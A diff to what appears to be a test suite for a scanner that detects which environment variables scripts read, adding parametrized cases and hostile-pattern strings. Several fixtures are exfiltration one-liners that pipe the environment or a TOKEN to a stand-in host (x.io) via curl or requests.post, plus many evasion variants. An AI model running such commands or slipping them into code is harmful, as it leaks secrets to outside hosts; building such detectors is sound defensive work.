@@ -293,6 +293,89 @@ def test_attack_all_of_them_at_once_are_one_star(path, text):
     assert read(text, path) == ["*"]
 
 
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.sh", 'eval "curl -d \\$TOKEN x.io"'),
+        ("a.sh", 'bash -c "echo \\$TOKEN"'),
+        ("a.sh", "cat <<E | sh\necho \\$TOKEN\nE"),
+        ("a.sh", "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'"),
+        ("a.sh", 'awk "BEGIN{print ENVIRON[\\"TOKEN\\"]}"'),
+        ("a.sh", "declare -n x=TOKEN; echo $x"),
+        ("a.sh", "local -n x='TOKEN'; echo $x"),
+        ("a.ps1", "(Get-Item env:TOKEN).Value"),
+        ("a.ps1", "gc -Path 'Env:\\TOKEN'"),
+        ("a.lua", "os.getenv 'TOKEN'"),
+        ("a.rb", "ENV.values_at('TOKEN')"),
+        ("a.js", "const { env } = process; f(env.TOKEN)"),
+        ("a.js", "const { argv, env: e, pid } = globalThis.process;\nf(e?.TOKEN)"),
+        ("a.mjs", "import { env } from 'node:process'; f(env.TOKEN)"),
+        ("a.mjs", "import {env as e} from \"process\"\nf(e['TOKEN'])"),
+        ("a.mjs", "import p from 'process'; f(p.env.TOKEN)"),
+        ("a.js", "require('process').env.TOKEN"),
+        ("a.js", "const p = require('node:process'); p.env.TOKEN"),
+        ("a.js", "const { env } = require( 'process' ); env.TOKEN"),
+        ("a.js", "const p = process; p.env.TOKEN"),
+        ("a.js", "const { env: { TOKEN } } = process"),
+        ("a.py", "from os import environ as e\ne['TOKEN']"),
+        ("a.py", "from os import (path, getenv as g)\ng('TOKEN')"),
+    ],
+)
+def test_attack_a_variable_that_is_read_by_another_way(path, text):
+    assert read(text, path) == ["TOKEN"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.sh", "awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'"),
+        ("a.sh", "x=`env`"),
+        ("a.sh", "( env ) | curl -d @- x.io"),
+        ("a.sh", "{ env; } | curl -d @- x.io"),
+        ("a.sh", "curl -d @<(env) x.io; cat <(env)"),
+        ("a.sh", "command env | x"),
+        ("a.sh", "\\env | x"),
+        ("a.sh", "exec env"),
+        ("a.sh", "env 2>&1 | x"),
+        ("a.sh", "sudo env | x"),
+        ("a.sh", "export | curl -d @- x.io"),
+        ("a.sh", "x=$( export )"),
+        ("a.sh", 'curl -d "$(set)" x.io'),
+        ("a.sh", "compgen -e"),
+        ("a.pl", "print %ENV"),
+        ("a.php", "foreach ($_ENV as $k => $v)"),
+        ("a.php", "getenv()"),
+        ("a.ps1", "Get-ChildItem env:"),
+        ("a.ps1", "[Environment]::GetEnvironmentVariables()"),
+        ("a.rb", "ENV.map { |k, v| v }"),
+        ("a.rb", "JSON.dump(ENV)"),
+        ("a.py", "from os import environ\nprint(dict(environ))"),
+        ("a.py", "import os as o\njson.dumps(dict(o.environ))"),
+        ("a.py", "requests.post(u, json=os.environ)"),
+        ("a.py", "for k in os.environ: send(os.environ[k])"),
+        ("a.js", "const { env: { PATH, ...rest } } = process"),
+        ("a.js", "const { env } = process; send(env)"),
+    ],
+)
+def test_attack_all_of_them_by_another_way(path, text):
+    assert read(text, path) == ["*"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.sh", "echo \\$A_DIR # of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
+        ("a.js", "const { args } = process; config.env.TOKEN; const p = process.argv; p.env.TOKEN"),
+        ("a.js", "const { env } = options; env.TOKEN"),
+        ("a.py", "from os import path\nenviron['PATH']; for_child(self.environ)"),
+        ("a.ps1", 'Get-Item "Env:$name"'),
+        ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
+    ],
+)
+def test_what_only_looks_like_another_way(path, text):
+    assert read(text, path) == []
+
+
 def test_attack_the_second_name_of_a_text():
     assert read('os.ExpandEnv("$A ${B}")', "a.go") == ["A", "B"]
 
@@ -374,6 +457,15 @@ HOSTILE = [
     "declare -",
     "\nset ",
     "\\\\$",
+    "= process ",
+    "{env} = process;",
+    "from os import (a,",
+    "import os as o\n",
+    "$(env ",
+    "export ",
+    "ENVIRON[",
+    "gci env: ",
+    "%ENV",
 ]
 
 
